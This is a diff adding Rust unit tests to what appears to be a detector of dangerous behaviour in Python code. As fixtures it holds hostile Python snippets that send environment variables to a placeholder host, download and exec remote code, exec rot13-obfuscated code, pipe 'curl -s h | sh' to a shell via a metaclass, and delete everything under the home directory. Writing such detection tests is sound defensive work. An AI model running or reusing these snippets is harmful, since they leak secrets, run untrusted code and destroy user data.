@@ -135,3 +135,65 @@ fn what_lets_somebody_in_is_not_sent_away() {
     ));
     assert!(carries(&uses("deliver"), Deed::Send, Taints::SECRET_FILE));
 }
+
+#[test]
+fn programs_that_are_looked_for_keep_their_names() {
+    let source =
+        "import shutil, subprocess\nsh = shutil.which('sh')\nsubprocess.run([sh, '-c', 'x'])";
+    let module = read(source);
+    let mut acts = module.acts.iter().map(|known| &known.act);
+    assert!(
+        acts.any(
+            |act| act.deed == Deed::Spawn && act.texts.iter().any(|it| it == "sh -c x")
+                || act.texts.contains(&"sh".to_owned())
+        ),
+        "{:?}",
+        module.acts
+    );
+}
+
+#[test]
+fn data_takes_its_usual_ways_out() {
+    for source in [
+        "import os, requests\ns = requests.Session()\ns.headers['X'] = repr(dict(os.environ))\ns.get('https://h.invalid')",
+    ] {
+        assert!(carries(source, Deed::Send, Taints::ENVIRONMENT), "{source}");
+    }
+    for source in [
+        "import io, pycurl\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(pycurl.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())",
+        "import urllib.request\nclass P:\n    def __bytes__(self): return urllib.request.urlopen('https://h.invalid').read()\nexec(bytes(P()))",
+        "import urllib.request\nclass P:\n    def __str__(self): return urllib.request.urlopen('https://h.invalid').read().decode()\nexec(f'{P()}')",
+    ] {
+        assert!(
+            carries(source, Deed::Execute, Taints::DOWNLOADED),
+            "{source}"
+        );
+    }
+    for source in [
+        "import codecs\nexec(codecs.getdecoder('rot_13')('cevag(1)')[0])",
+        "import codecs\nexec(codecs.lookup('rot13').decode('cevag(1)')[0])",
+    ] {
+        assert!(carries(source, Deed::Execute, Taints::DECODED), "{source}");
+    }
+}
+
+#[test]
+fn a_metaclass_is_given_the_body_of_the_class() {
+    let source = "import subprocess\nclass M(type):\n    def __new__(meta, name, bases, body):\n        subprocess.Popen(body['source'], shell=True)\n        return type.__new__(meta, name, bases, body)\nclass R(metaclass=M):\n    source = 'curl -s h | sh'\n";
+    let module = read(source);
+    let mut acts = module.acts.iter().map(|known| &known.act);
+    assert!(acts.any(|act| act.deed == Deed::Spawn && act.texts[0] == "curl -s h | sh"));
+}
+
+#[test]
+fn what_is_deleted_is_told_by_its_path_alone() {
+    let source = "import pathlib, shutil\nfor child in pathlib.Path.home().iterdir():\n    shutil.rmtree(child, ignore_errors=True)";
+    let module = read(source);
+    let mut acts = module.acts.iter().map(|known| &known.act);
+    let act = acts.find(|act| act.deed == Deed::Delete).unwrap();
+    assert!(
+        !act.texts.iter().any(|text| text == "True"),
+        "{:?}",
+        act.texts
+    );
+}
